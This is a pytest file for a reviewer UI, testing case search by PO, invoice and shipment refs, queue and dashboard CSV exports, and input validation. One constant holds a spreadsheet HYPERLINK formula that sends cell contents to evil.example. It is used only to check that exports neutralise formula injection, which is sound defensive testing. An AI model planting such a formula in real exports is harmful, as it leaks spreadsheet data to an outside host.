"""Finding work in the reviewer UI: search by id or ref, and CSV exports of queue and dashboard."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator

import httpx
import pytest

from api.ui.export import QUEUE_HEADER
from tests.support.ui import (
    PASSWORD,
    READ_KEY,
    approvals_of,
    bearer,
    csrf_of,
    make_short_pick_case,
    seeded_settings,
    serve,
    submit,
)

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'


@pytest.fixture(scope="module")
def base_url(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    settings = seeded_settings(tmp_path_factory.mktemp("ui-find"))
    with serve(settings) as url:
        refs = {
            "FIND-A": {"po_id": "PO-77001", "invoice_id": "INV-2026-5501"},
            "FIND-B": {"po_id": "PO-77002", "invoice_id": "INV-2026-6602"},
            "FIND-C": {"shipment_id": "SH-31337", "dock_ref": "DOCK-9"},
        }
        for case_id, ref in refs.items():
            submit(url, make_short_pick_case(case_id, site="DC-FIND", refs=ref), bearer())
        submit(
            url,
            make_short_pick_case("FIND-INJ", site="DC-INJ", stalled_step=HYPERLINK),
            bearer(),
        )
        yield url


@pytest.fixture(scope="module")
def client(base_url: str) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=base_url, timeout=60) as session:
        token = csrf_of(session.get("/ui/login").text)
        response = session.post(
            "/ui/login", data={"username": "alice", "password": PASSWORD, "csrf_token": token}
        )
        assert response.status_code == 303, response.text
        yield session


def _row_cases(html: str) -> set[str]:
    body = html.split('id="queue-rows"', 1)[1].split("</tbody>", 1)[0]
    return set(re.findall(r'class="case-link">([^<]+)</a>', body))


def test_search_by_po_finds_that_case_only(client: httpx.Client) -> None:
    """An exact PO finds its case and no other, and the box keeps the text."""
    page = client.get("/ui/queue", params={"q": "PO-77001"}).text
    assert _row_cases(page) == {"FIND-A"}
    assert 'name="q" value="PO-77001"' in page


def test_search_by_invoice_prefix_ignores_case(client: httpx.Client) -> None:
    """A lower-case invoice prefix finds the one case whose invoice starts with it."""
    assert _row_cases(client.get("/ui/queue", params={"q": "inv-2026-66"}).text) == {"FIND-B"}
    assert _row_cases(client.get("/ui/queue", params={"q": "inv-2026-"}).text) == {
        "FIND-A",
        "FIND-B",
    }


def test_search_by_case_id_shipment_and_extra_ref(client: httpx.Client) -> None:
    """A case id prefix, a shipment id and an extra ref key's value each find their case."""
    assert _row_cases(client.get("/ui/queue", params={"q": "find-"}).text) >= {
        "FIND-A",
        "FIND-B",
        "FIND-C",
    }
    assert _row_cases(client.get("/ui/queue", params={"q": "SH-31337"}).text) == {"FIND-C"}
    assert _row_cases(client.get("/ui/queue", params={"q": "dock-9"}).text) == {"FIND-C"}


def test_a_search_that_finds_nothing_says_so(client: httpx.Client) -> None:
    """No row, and a sentence naming the text, in the queue and among other cases."""
    page = client.get("/ui/queue", params={"q": "PO-NOPE-1"}).text
    assert _row_cases(page) == set()
    assert "No case in the queue matches “PO-NOPE-1”." in page
    assert "data-search-empty" in page


def test_the_bare_address_carries_the_search_to_the_queue(client: httpx.Client) -> None:
    """GET /ui?q=... leads to the queue with the same search."""
    response = client.get("/ui", params={"q": "PO-77002"})
    assert response.status_code == 303
    assert response.headers["location"] == "/ui/queue?q=PO-77002"
    assert _row_cases(client.get(response.headers["location"]).text) == {"FIND-B"}


def test_an_overlong_search_is_refused_naming_the_field(client: httpx.Client) -> None:
    """A search longer than any id is a 422 that names q, not a 500."""
    response = client.get("/ui/queue", params={"q": "x" * 201})
    assert response.status_code == 422
    assert "q" in response.text


def _parse(response: httpx.Response) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(response.text)))


def test_the_queue_exports_as_csv_with_the_page_filters(client: httpx.Client) -> None:
    """The CSV has the header and the filtered rows; numbers and times are plain."""
    response = client.get("/ui/queue.csv", params={"site": "DC-FIND", "q": "PO-7700"})
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(
        r'attachment; filename="queue-\d{8}T\d{6}Z\.csv"', response.headers["content-disposition"]
    )
    assert next(csv.reader(io.StringIO(response.text))) == QUEUE_HEADER
    rows = _parse(response)
    assert {r["case_id"] for r in rows} == {"FIND-A", "FIND-B"}
    row = next(r for r in rows if r["case_id"] == "FIND-A" and r["amount"])
    assert row["po_id"] == "PO-77001"
    assert row["site"] == "DC-FIND"
    assert float(row["amount"]) > 0
    assert row["currency"] == "USD"
    assert 0 <= float(row["priority"]) <= 100
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z", row["sla_due_at"])
    assert 0 < int(row["sla_left_s"]) <= 3 * 3600


def test_a_formula_in_case_text_is_neutralised(client: httpx.Client) -> None:
    """A stalled step that a spreadsheet would run as a formula is written as text."""
    rows = _parse(client.get("/ui/queue.csv", params={"site": "DC-INJ"}))
    assert rows
    assert all(r["stalled_step"] == "'" + HYPERLINK for r in rows)
    assert not any(v.startswith(("=", "+", "@")) for r in rows for v in r.values())


def test_the_queue_page_links_to_its_export_with_its_filters(client: httpx.Client) -> None:
    """The Export link carries the page's filters and search."""
    page = client.get("/ui/queue", params={"site": "DC-FIND", "q": "PO-1"}).text
    assert 'href="/ui/queue.csv?site=DC-FIND&amp;q=PO-1"' in page


def test_the_dashboard_exports_as_csv(client: httpx.Client) -> None:
    """The dashboard's CSV holds the tiles and every chart's rows; one chart can be asked alone."""
    page = client.get("/ui/dashboard", params={"days": 7}).text
    assert 'href="/ui/dashboard.csv?days=7"' in page
    assert 'href="/ui/dashboard.csv?days=7&amp;chart=sla"' in page
    response = client.get("/ui/dashboard.csv", params={"days": 7})
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert 'filename="dashboard-7d-' in response.headers["content-disposition"]
    rows = _parse(response)
    sections = {r["section"] for r in rows}
    assert sections == {"tiles", "workflow", "cause", "sla", "confidence", "accuracy"}
    cases = next(r for r in rows if r["section"] == "tiles" and r["key"] == "Cases")
    assert int(cases["value"]) >= 4
    pick = [r for r in rows if r["section"] == "workflow" and r["series"] == "pick_pack"]
    assert len(pick) == 7
    assert sum(int(r["value"]) for r in pick) >= 4
    one = _parse(client.get("/ui/dashboard.csv", params={"days": 7, "chart": "cause"}))
    assert one
    assert {r["section"] for r in one} == {"cause"}
    refused = client.get("/ui/dashboard.csv", params={"chart": "nope"})
    assert refused.status_code == 422
    assert "chart" in refused.text


def test_a_case_no_longer_in_the_queue_is_found_below_it(
    client: httpx.Client, base_url: str
) -> None:
    """Once every approval of a case is decided, the search still finds it, below the queue."""
    submit(base_url, make_short_pick_case("FIND-DONE", refs={"po_id": "PO-88001"}), bearer())
    token = csrf_of(client.get("/ui/queue").text)
    for approval in approvals_of(base_url, "FIND-DONE"):
        client.post(
            f"/ui/approvals/{approval['approval_id']}",
            data={"decision": "reject", "reason": "handled by phone", "csrf_token": token},
        )
    assert {a["status"] for a in approvals_of(base_url, "FIND-DONE")} == {"rejected"}
    page = client.get("/ui/queue", params={"q": "po-88001"}).text
    assert _row_cases(page) == set()
    elsewhere = page.split("data-search-elsewhere", 1)[1]
    assert 'href="/ui/cases/FIND-DONE"' in elsewhere
    assert "data-search-empty" not in elsewhere


def test_the_json_listing_filters_by_the_same_search(base_url: str) -> None:
    """GET /v1/cases?q= finds by ref prefix like the queue; an overlong q is a 422 naming it."""
    headers = {"authorization": f"Bearer {READ_KEY}"}
    listed = httpx.get(f"{base_url}/v1/cases", params={"q": "inv-2026-55"}, headers=headers)
    assert listed.status_code == 200
    assert [item["case_id"] for item in listed.json()["items"]] == ["FIND-A"]
    refused = httpx.get(f"{base_url}/v1/cases", params={"q": "x" * 201}, headers=headers)
    assert refused.status_code == 422
    assert "q" in refused.text
